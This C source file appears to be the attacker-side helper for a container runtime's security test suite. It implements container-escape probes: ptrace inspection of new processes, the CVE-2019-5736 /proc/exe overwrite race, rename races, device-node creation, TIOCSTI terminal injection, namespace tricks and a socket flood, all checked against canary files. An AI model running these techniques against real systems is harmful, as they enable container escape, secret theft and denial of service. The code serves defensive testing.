/*
 * attack: what the hostile side of the security tests runs, in a container or beside it. Prints what it got;
 * nothing, or "safe", when the defence held.
 *
 *   attack exec-stage SECONDS     looks at every new process of its pid namespace (needs CAP_SYS_PTRACE)
 *   attack proc-exe SECONDS       tries to write the executable of every other process (CVE-2019-5736)
 *   attack swap SECONDS A B       exchanges two names again and again (RENAME_EXCHANGE)
 *   attack mknod PATH MAJOR MINOR makes a device node and opens it
 *   attack fds                    what is open beside 0, 1, 2, and whether the cwd is in the root
 *   attack tiocsti                pushes a character into the terminal of fd 0
 *   attack setns                  joins its own mount namespace, which leads to that one's real root
 *   attack capabilities           the inheritable and ambient sets
 *   attack own-mounts             enters a mount namespace of a user namespace of its own, where all programs are its own
 *   attack flood SOCKET           sends datagrams without end, from several processes
 *   attack can-mount-procfs-of    no attack: can a procfs be had of a pid namespace without being in it (Linux 6.17)?
 */
#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <sched.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static double now(void)
{
    struct timespec time;

    clock_gettime(CLOCK_MONOTONIC, &time);
    return (double)time.tv_sec + (double)time.tv_nsec / 1e9;
}

static bool file_has(const char *path, const char *text)
{
    static char data[1 << 16];
    int fd = open(path, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
    ssize_t length = fd < 0 ? -1 : read(fd, data, sizeof data);

    if (fd >= 0)
        close(fd);
    return length > 0 && memmem(data, (size_t)length, text, strlen(text));
}

/* ---- exec-stage ------------------------------------------------------------------------------------------
 */

static void look_at_fds(int pid)
{
    char path[400];
    DIR *dir;

    snprintf(path, sizeof path, "/proc/%d/fd", pid);
    dir = opendir(path);
    if (!dir)
        return;
    for (struct dirent *entry; (entry = readdir(dir));) {
        char target[PATH_MAX] = "";

        if (!isdigit((unsigned char)entry->d_name[0]))
            continue;
        snprintf(path, sizeof path, "/proc/%d/fd/%s", pid, entry->d_name);
        if (readlink(path, target, sizeof target - 1) < 0)
            continue;
        snprintf(path, sizeof path, "/proc/%d/fd/%s/../../../../../../../../canary/secret", pid,
                 entry->d_name);
        if (file_has(path, "canary"))
            printf("fd %s (%s) leads to the host's files\n", entry->d_name, target);
        snprintf(path, sizeof path, "/proc/%d/fd/%s/1/root/canary/secret", pid, entry->d_name);
        if (file_has(path, "canary"))
            printf("fd %s (%s) is a procfs of the host\n", entry->d_name, target);
    }
    closedir(dir);
}

static void look_at(int pid)
{
    char path[100];

    snprintf(path, sizeof path, "/proc/%d/environ", pid);
    if (file_has(path, "ARIL_TEST_SECRET"))
        printf("environment of the caller\n");
    snprintf(path, sizeof path, "/proc/%d/root/canary/secret", pid);
    if (file_has(path, "canary"))
        printf("root directory of the host\n");
    snprintf(path, sizeof path, "/proc/%d/cwd/../../../../../../../canary/secret", pid);
    if (file_has(path, "canary"))
        printf("working directory on the host\n");
    look_at_fds(pid);
    fflush(stdout);
}

/* Stops a process the moment it can be seen, so that there is time to look around in it. */
static int exec_stage(double seconds)
{
    double end = now() + seconds;
    int self = getpid(), last = self, seen = 0;

    while (now() < end) {
        for (int pid = last + 1; pid <= last + 4; pid++) {
            int status;

            if (ptrace(PTRACE_SEIZE, pid, 0, 0) < 0) {
                if (errno != EPERM)
                    continue;
                look_at(pid);
                last = pid;
                break;
            }
            ptrace(PTRACE_INTERRUPT, pid, 0, 0);
            waitpid(pid, &status, __WALL);
            look_at(pid);
            if (WIFSTOPPED(status))
                ptrace(PTRACE_DETACH, pid, 0, 0);
            last = pid;
            seen++;
            break;
        }
    }
    printf("seen %d\n", seen);
    return 0;
}

/* ---- proc-exe --------------------------------------------------------------------------------------------
 */

/* A sealed memfd can be opened for writing, and not be written. The byte stays what it is. */
static bool can_write(int readable, int writable)
{
    char byte;

    return pread(readable, &byte, 1, 0) == 1 && pwrite(writable, &byte, 1, 0) == 1;
}

static void overwrite(int pid)
{
    char path[100];
    int fd;

    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return;
    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    for (int i = 0; i < 20000; i++) { /* busy while it runs */
        int writable = open(path, O_WRONLY | O_CLOEXEC);
        char target[PATH_MAX] = "";

        if (writable >= 0) {
            if (readlink(path, target, sizeof target - 1) > 0 && !strstr(target, "/bin/attack") &&
                !strstr(target, "/bin/busybox") && can_write(fd, writable)) {
                printf("writable: %s\n", target);
                fflush(stdout);
            }
            close(writable);
            break;
        }
        if (errno != ETXTBSY)
            break;
    }
    close(fd);
}

static int proc_exe(double seconds)
{
    double end = now() + seconds;

    for (int pid = getpid() + 1; now() < end;) {
        bool found = false;

        for (int next = pid; next < pid + 4; next++) {
            if (kill(next, 0) < 0 && errno == ESRCH)
                continue;
            overwrite(next);
            pid = next + 1;
            found = true;
            break;
        }
        if (!found)
            continue;
    }
    puts("done");
    return 0;
}

/* ---- swap ------------------------------------------------------------------------------------------------
 */

static int swap(double seconds, const char *a, const char *b)
{
    double end = now() + seconds;
    long count = 0;

    while (now() < end)
        for (int i = 0; i < 1000; i++, count++)
            if (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2 /* RENAME_EXCHANGE */) < 0 &&
                errno != ENOENT) {
                perror("swap");
                return 1;
            }
    return 0;
}

/* ---- the small ones ---------------------------------------------------------------------------------------
 */

static int make_node(const char *path, unsigned major_number, unsigned minor_number)
{
    int fd;

    unlink(path);
    if (mknod(path, S_IFCHR | 0666, makedev(major_number, minor_number)) < 0) {
        printf("mknod: %s\n", strerror(errno));
        return 0;
    }
    puts("made");
    fd = open(path, O_RDWR | O_NONBLOCK);
    printf("open: %s\n", fd < 0 ? strerror(errno) : "opened");
    return 0;
}

static int leaked_fds(void)
{
    char cwd[PATH_MAX] = "", path[64], target[PATH_MAX];
    DIR *dir = opendir("/proc/self/fd");

    for (struct dirent *entry; dir && (entry = readdir(dir));) {
        int fd = atoi(entry->d_name);
        ssize_t length;

        if (fd < 3 || fd == dirfd(dir))
            continue;
        snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
        length = readlink(path, target, sizeof target - 1);
        target[length < 0 ? 0 : length] = '\0';
        printf("fd %d is %s\n", fd, target);
    }
    if (syscall(SYS_getcwd, cwd, sizeof cwd) < 0 || cwd[0] != '/')
        printf("cwd is outside: %s\n", cwd);
    if (file_has("../../../../../../../../canary/secret", "canary"))
        puts("cwd leads to the host's files");
    puts("done");
    return 0;
}

static int join_own_namespace(void)
{
    int fd = open("/proc/self/ns/mnt", O_RDONLY | O_CLOEXEC);

    if (fd < 0 || setns(fd, CLONE_NEWNS) < 0)
        printf("setns: %s\n", strerror(errno));
    else
        puts(file_has("/canary/secret", "canary") ? "the host's files" : "safe");
    return 0;
}

static int push_character(void)
{
    char character = 'x';

    puts(ioctl(0, TIOCSTI, &character) < 0 ? "safe" : "pushed");
    return 0;
}

static int capability_sets(void)
{
    char line[200];
    FILE *status = fopen("/proc/self/status", "r");

    while (status && fgets(line, sizeof line, status))
        if (strncmp(line, "CapInh:", 7) == 0 || strncmp(line, "CapAmb:", 7) == 0)
            fputs(line, stdout);
    return 0;
}

/* Whoever is made to run something in this namespace runs us. */
static int own_mounts(char **argv)
{
    if (strcmp(argv[0], "/bin/attack") != 0) {
        printf("hostile program as uid %d\n", (int)geteuid());
        return 0;
    }
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS) < 0 || mount("/bin/attack", "/bin/busybox", NULL, MS_BIND, NULL) < 0)
        perror("own-mounts");
    puts("entered");
    fflush(stdout);
    for (;;)
        pause();
}

static void flood(const char *path) __attribute__((noreturn));
static void flood(const char *path)
{
    struct sockaddr_un address = { .sun_family = AF_UNIX };
    int fd = socket(AF_UNIX, SOCK_DGRAM, 0);

    snprintf(address.sun_path, sizeof address.sun_path, "%s", path);
    for (int i = 0; i < 4 && fork() > 0; i++)
        continue;
    for (;;)
        sendto(fd, "STATUS=x", 8, 0, (struct sockaddr *)&address, sizeof address);
}

static int can_mount_procfs_of(void)
{
    int context = (int)syscall(SYS_fsopen, "proc", 0);
    int namespace = open("/proc/self/ns/pid", O_RDONLY | O_CLOEXEC);

    return syscall(SYS_fsconfig, context, 5 /* FSCONFIG_SET_FD */, "pidns", NULL, namespace) < 0;
}

int main(int argc, char **argv)
{
    const char *what = argc > 1 ? argv[1] : "";

    if (strcmp(what, "exec-stage") == 0 && argc == 3)
        return exec_stage(atof(argv[2]));
    if (strcmp(what, "proc-exe") == 0 && argc == 3)
        return proc_exe(atof(argv[2]));
    if (strcmp(what, "swap") == 0 && argc == 5)
        return swap(atof(argv[2]), argv[3], argv[4]);
    if (strcmp(what, "mknod") == 0 && argc == 5)
        return make_node(argv[2], (unsigned)atoi(argv[3]), (unsigned)atoi(argv[4]));
    if (strcmp(what, "fds") == 0)
        return leaked_fds();
    if (strcmp(what, "setns") == 0)
        return join_own_namespace();
    if (strcmp(what, "tiocsti") == 0)
        return push_character();
    if (strcmp(what, "own-mounts") == 0 || strcmp(argv[0], "/bin/id") == 0)
        return own_mounts(argv);
    if (strcmp(what, "flood") == 0 && argc == 3)
        flood(argv[2]);
    if (strcmp(what, "can-mount-procfs-of") == 0)
        return can_mount_procfs_of();
    if (strcmp(what, "capabilities") == 0)
        return capability_sets();
    fputs("attack: see the head of attack.c\n", stderr);
    return 2;
}
